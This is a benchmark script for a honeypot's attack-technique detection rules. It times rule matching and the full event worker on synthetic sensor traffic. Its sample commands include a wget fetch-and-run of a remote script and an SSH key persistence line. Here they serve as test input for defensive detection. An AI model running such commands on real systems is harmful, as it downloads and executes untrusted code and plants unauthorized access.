# SPDX-License-Identifier: MIT
"""How many events a second all shipped rules look at, beside only decoding the same events; and what the worker weighs.

`python benchmarks/ttp.py [EVENTS]` (default 50000). "rules" is matching alone, in memory; "worker" is the whole path:
select, decode, match, tags, windows, notices and cursor in one synced transaction per batch on SQLite.
Memory is measured in a process of its own: what rules, RE2 and the ATT&CK table add to a cursor worker.
"""

from __future__ import annotations

import random
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from sqlalchemy import Engine

from decnet_core.events.catalogue import CommandRun, ConnectionOpened, HttpRequest, LoginAttempt, Payload
from decnet_core.events.codec import decode, encode
from decnet_core.events.envelope import Event
from decnet_core.events.ids import uuid7
from decnet_core.runtime.counters import Counters
from decnet_models.database.engine import open_engine, writing
from decnet_models.events.queries import insert_events
from decnet_models.migrations.upgrade import upgrade
from decnet_models.progress.queries import begin_cursor
from decnet_workers.ttp.library import SHIPPED, Library, load
from decnet_workers.ttp.settings import TtpSettings
from decnet_workers.ttp.watch import Watched
from decnet_workers.ttp.worker import Ttp

START = 1_780_000_000_000_000_000
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; ./bins.sh",
    "ls -la",
    "echo hello",
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ' >> ~/.ssh/authorized_keys",
)
PATHS = ("/", "/index.html", "/.env", "/wp-login.php", "/images/logo.png", "/api/v1/users?id=7", "/cgi-bin/luci")
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

_WEIGH = """
import decnet_models.following.cursor_worker, decnet_models.ttp.queries, decnet_core.events.codec, hashlib, uuid
def rss():
    with open("/proc/self/smaps_rollup") as rows:
        return sum(int(row.split()[1]) for row in rows if row.startswith(("Private_Clean", "Private_Dirty")))
before = rss()
from decnet_workers.ttp.findings import Findings
from decnet_workers.ttp.library import SHIPPED, load
from decnet_workers.ttp.reader import read_in_child
from decnet_models.database.warm_up import sample_events
from decnet_core.events.catalogue import PAYLOADS
library = load([SHIPPED], read_in_child)
for event in sample_events(PAYLOADS):
    library.matching(event)
print((rss() - before) / 1024)
"""


def main() -> None:
    """Measure and print."""
    total = int(sys.argv[1]) if len(sys.argv) > 1 else 50_000
    library = load([SHIPPED])
    events = list(made(total))
    lines = [encode(event) for event in events]
    decoding = timed(lambda: [decode(line) for line in lines])
    matching = timed(lambda: matched(library, events))
    whole, cpu = worked(events, library)
    weight = subprocess.run([sys.executable, "-c", _WEIGH], check=True, capture_output=True, text=True).stdout
    print(f"events                 {total}, rules {len(library)}")
    print(f"decode only            {total / decoding:10.0f} events/s")
    print(f"rules                  {total / matching:10.0f} events/s   ({matching / decoding:.1f} times the time)")
    print(f"worker, all of it      {total / whole:10.0f} events/s   ({whole / decoding:.1f} times the time)")
    print(f"by its own CPU time    {total / cpu:10.0f} events/s   ({cpu:.2f} CPU seconds)")
    print(f"private memory of rules, RE2 and the ATT&CK table  {float(weight):.1f} MiB")


def made(total: int) -> list[Event]:
    """Return what a busy sensor sees: half log-ins, then requests, commands and connections, of 500 addresses."""
    chance = random.Random(7)
    makers: list[Callable[[], Payload]] = [
        lambda: LoginAttempt(service="ssh", username="root", password=str(chance.randrange(1000)), success=False),
        lambda: HttpRequest(
            method="GET",
            target=chance.choice(PATHS),
            user_agent=AGENT,
            status=404,
            headers=(("Host", "192.0.2.1"), ("User-Agent", AGENT), ("Accept", "*/*")),
        ),
        lambda: CommandRun(service="ssh", command=chance.choice(COMMANDS)),
        lambda: ConnectionOpened(service="ssh"),
    ]
    return [
        Event(
            id=uuid7(START + n * 1_000_000),
            ts=START + n * 1_000_000,
            sensor="bench",
            src_ip=f"198.51.100.{chance.randrange(250)}",
            payload=chance.choices(makers, (5, 2, 2, 1))[0](),
        )
        for n in range(total)
    ]


def matched(library: Library, events: list[Event]) -> int:
    """Return how many matches there are."""
    return sum(len(library.matching(event)) for event in events)


def worked(events: list[Event], library: Library) -> tuple[float, float]:
    """Return the seconds, and the CPU seconds, in which the worker handles the events."""
    with tempfile.TemporaryDirectory() as directory:
        url = f"sqlite:///{Path(directory) / 'decnet.db'}"
        upgrade(url)
        engine = open_engine(url)
        for start in range(0, len(events), 5000):
            with writing(engine) as connection:
                insert_events(connection, events[start : start + 5000])
        cpu = time.process_time()
        seconds = timed(lambda: consume(engine, library))
        cpu = time.process_time() - cpu
        engine.dispose()
    return seconds, cpu


def consume(engine: Engine, library: Library) -> None:
    """Follow the log to its end, as the worker does."""
    worker = Ttp(TtpSettings(shipped_rules=False))
    worker._rules, worker._counters = Watched(worker.settings), Counters()
    worker._rules.library = library
    with writing(engine) as connection:
        begin_cursor(connection, worker.name, now_ns=START)
    processor = worker._processor(engine, worker.name)
    while processor.step().lag:
        pass


def timed(work: Callable[[], object]) -> float:
    """Return the seconds that `work` takes."""
    started = time.perf_counter()
    work()
    return time.perf_counter() - started


if __name__ == "__main__":
    main()
